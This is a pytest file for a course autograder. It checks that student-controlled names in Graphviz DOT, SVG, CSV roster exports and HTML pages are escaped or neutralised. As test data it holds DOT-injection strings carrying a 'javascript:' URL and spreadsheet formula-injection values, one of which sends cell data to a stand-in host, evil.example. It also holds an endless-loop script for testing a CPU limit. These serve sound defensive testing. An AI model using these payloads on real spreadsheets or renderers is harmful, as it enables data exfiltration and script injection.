"""Terminal, DOT and CSV are outputs like HTML: learner text in them is shown, never obeyed. A
class name in DOT syntax stays a name (no link reaches the SVG), `dot` runs within a CPU-time
limit and only on graphs it can lay out, a roster name that is a spreadsheet formula is written
as text, and a submission named `index` has a page of its own, not the class page."""
import csv
import io
import json
import os
import stat
import subprocess

import pytest

from dezero_grader.present import graph_dot

EVIL = 'Mul", URL="javascript:alert(1)", target="_top", x="\\N'


def _doc(graph):
    return {'checks': [{'id': 'step09/square', 'evidence': {'findings': [
        {'case': 'x', 'status': 'failed', 'message': 'gradient differs',
         'evidence': {'graph': graph}}]}}]}


def _graph(n_nodes=1, type_name=EVIL, var_name=EVIL):
    variables = [{'label': var_name, 'name': var_name, 'shape': [2], 'dtype': 'float64',
                  'grad_ok': False}] + [{'label': 'v{}'.format(i), 'shape': [2], 'dtype': 'float64'}
                                        for i in range(n_nodes)]
    nodes = [{'type': type_name, 'generation': k, 'inputs': [k], 'outputs': [k + 1],
              'divergent': k == 0} for k in range(n_nodes)]
    return {'variables': variables, 'nodes': nodes}


@pytest.mark.skipif(graph_dot.shutil.which('dot') is None, reason='Graphviz dot is not installed')
def test_a_class_name_in_dot_syntax_stays_a_name(tmp_path):
    written = graph_dot.write_all(_doc(_graph()), tmp_path)
    dot = (tmp_path / 'step09_square.dot').read_text(encoding='utf-8')
    svg = (tmp_path / 'step09_square.svg').read_text(encoding='utf-8')
    assert [p.suffix for p in written] == ['.dot', '.svg']
    assert 'href' not in svg and 'javascript:alert(1)' in svg    # shown as the name it is
    # dot reads back exactly the nodes and attributes the grader wrote, the name whole
    read = json.loads(subprocess.run(['dot', '-Tjson', str(tmp_path / 'step09_square.dot')],
                                     capture_output=True, text=True, check=True).stdout)
    assert len(read['objects']) == dot.count('[label=') == 3
    assert not any({'URL', 'href', 'target', 'x'} & set(o) for o in read['objects'])
    # (DOT keeps a label's escaped backslash as written: only the renderer reads it, as one)
    assert any(o['label'].startswith(EVIL.replace('\\', '\\\\')) for o in read['objects'])


def test_a_graph_of_another_form_writes_no_dot_of_its_choosing(tmp_path):
    graph = {'variables': [{'label': 'x'}], 'nodes': [
        {'type': 'Add', 'generation': 0, 'inputs': ['0; v0 -> f0 [URL="javascript:x"]'], 'outputs': [7]}]}
    text = graph_dot.to_dot(graph)
    assert 'javascript' not in text and '->' not in text


def test_a_graph_too_large_to_lay_out_is_written_as_dot_only(tmp_path):
    notes = []
    big = _graph(n_nodes=graph_dot.MAX_DRAWN_NODES, type_name='Add', var_name='x')
    written = graph_dot.write_all(_doc(big), tmp_path, notes)
    assert [p.suffix for p in written] == ['.dot']
    assert notes and 'no SVG drawn' in notes[0]


@pytest.mark.skipif(os.name != 'posix', reason='resource limits')
def test_dot_that_never_ends_is_stopped_by_its_cpu_limit(tmp_path, monkeypatch):
    busy = tmp_path / 'dot'
    busy.write_text('#!/bin/sh\nwhile :; do :; done\n')
    busy.chmod(busy.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setattr(graph_dot, 'DOT_CPU_S', 1)
    source = tmp_path / 'g.dot'
    source.write_text(graph_dot.to_dot(_graph(type_name='Add')))
    why = graph_dot.render_svg(str(busy), source, tmp_path / 'g.svg')
    assert why is not None and 'exit status' in why and not (tmp_path / 'g.svg').exists()


@pytest.fixture(scope='module')
def card():
    from dezero_grader import reference
    from dezero_grader.grading import run
    doc = run.grade(reference.ROOT / 'steps', 1, run.Options(device='sim', seed=1))
    assert doc['verdict'] == 'accept'
    return doc


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)']


def test_every_start_of_a_formula_is_neutralised():
    from dezero_grader.export import spreadsheet_text
    for cell in FORMULAS + ['\tTAB', '\rCR']:
        assert spreadsheet_text(cell) == "'" + cell
    assert spreadsheet_text('Liddell, Alice') == 'Liddell, Alice'


def test_a_roster_name_that_is_a_formula_is_written_as_text(card, tmp_path):
    from dezero_grader.export import Graded, Submission, canvas
    from dezero_grader.intake import roster as roster_mod
    lines = ['Student,ID,SIS User ID,SIS Login ID,Section,Submission']
    subs = []
    for i, name in enumerate(FORMULAS):
        cell = '"{}"'.format(name.replace('"', '""'))
        lines.append('{},{},{},,{},s{}'.format(cell, 1000 + i, cell, cell, i))
        subs.append(Submission('s{}'.format(i), card))
    roster = roster_mod.parse_csv('\n'.join(lines) + '\n')
    graded = Graded(tuple(subs), None, None, None)
    written = canvas.export(graded, tmp_path / 'canvas.csv', roster, name='=CMD()')
    assert written.rows == len(FORMULAS)
    rows = list(csv.reader(io.StringIO((tmp_path / 'canvas.csv').read_text(encoding='utf-8'))))
    cells = [c for r in rows for c in r if c and not c.strip().replace('.', '').isdigit()]
    assert not [c for c in cells if c.startswith(('=', '+', '-', '@', '\t', '\r'))]
    students = sorted(r[0] for r in rows[2:])
    assert students == sorted("'" + name for name in FORMULAS)   # kept whole, as text
    assert rows[0][5] == "'=CMD()"


def test_a_submission_named_index_has_its_own_page(card, tmp_path):
    from dezero_grader.present import html_page
    from dezero_grader.batch.summary import assignment_info, summarize
    from dezero_grader.batch import BatchOptions
    docs = {'index': card, 'INDEX': card, 'alice': card}
    summary = summarize(assignment=assignment_info(1), options=BatchOptions(1).to_json(),
                        shards={'count': 1, 'included': [1]}, graded=list(docs.items()),
                        failures=[])
    paths = html_page.write_class(tmp_path, summary, docs)
    names = [p.name for p in paths]
    assert names[0] == 'index.html' and len(set(n.lower() for n in names)) == len(names) == 4
    page = (tmp_path / 'index.html').read_text(encoding='utf-8')
    assert 'class page' in page     # the class page, not a submission's report
    assert html_page.page_name('index') in page and html_page.page_name('INDEX') in page
